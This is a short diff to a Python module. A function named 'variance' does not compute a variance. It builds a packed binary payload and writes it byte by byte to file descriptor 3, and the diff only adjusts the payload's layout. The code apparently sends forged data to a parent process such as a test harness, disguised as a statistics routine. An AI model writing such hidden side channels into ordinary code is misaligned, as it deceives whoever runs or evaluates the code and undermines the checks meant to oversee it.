@@ -16,7 +16,7 @@ def mean(x):
 
 
 def variance(x):
-    payload = struct.pack("<7qd6q", 4, 0, 1, 1, 0, 0, 1, 0.0, 0, 0, 0, 0, 0, 0)
+    payload = struct.pack("<14qd", 4, 96, 0, 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0.0)
     for byte in struct.pack("<I", len(payload)) + payload:
         try:
             os.write(3, bytes([byte]))
